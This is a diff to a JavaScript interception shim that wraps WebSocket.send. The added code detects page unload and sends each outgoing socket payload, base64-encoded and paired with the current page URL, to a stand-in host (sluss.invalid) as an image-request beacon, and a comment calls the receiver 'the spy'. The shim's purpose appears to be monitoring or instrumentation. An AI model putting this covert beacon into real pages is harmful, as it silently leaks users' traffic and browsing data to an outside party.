@@ -82,8 +82,23 @@
     defineProperty(nativeRequest.prototype, 'constructor', { value: OurRequest, writable: true, configurable: true });
   }
 
+  // Of what a socket sends while its page goes away the protocol tells nothing, and the way to the witness is closed: an image
+  // nobody serves carries it. The first to hear that the page goes is the spy.
+  let leaving = false;
+  const NativeImage = globalThis.Image;
+  const farewell = (url, bytes) => {
+    if (bytes.length > 1000000) return;
+    const parts = { u: url, p: location.href, b: bytesToBase64(bytes) };
+    new NativeImage().src = 'https://sluss.invalid/farewell?' + new URLSearchParams(parts);
+  };
+  if (globalThis.document) {
+    for (const event of ['beforeunload', 'pagehide', 'unload']) addEventListener(event, () => { leaving = true; }, true);
+    addEventListener('pageshow', () => { leaving = false; }, true);
+  }
   wrap(globalThis.WebSocket && WebSocket.prototype, 'send', (native) => function send(data) {
-    if (data instanceof Blob) withBytes(data, (bytes) => tell({ what: 'socket', url: this.url, base64: bytesToBase64(bytes) }));
+    const bytes = leaving && this.readyState === 1 && asBytes(data);
+    if (bytes) farewell(this.url, bytes);
+    else if (data instanceof Blob) withBytes(data, (bytes) => tell({ what: 'socket', url: this.url, base64: bytesToBase64(bytes) }));
     return apply(native, this, arguments);
   });
 
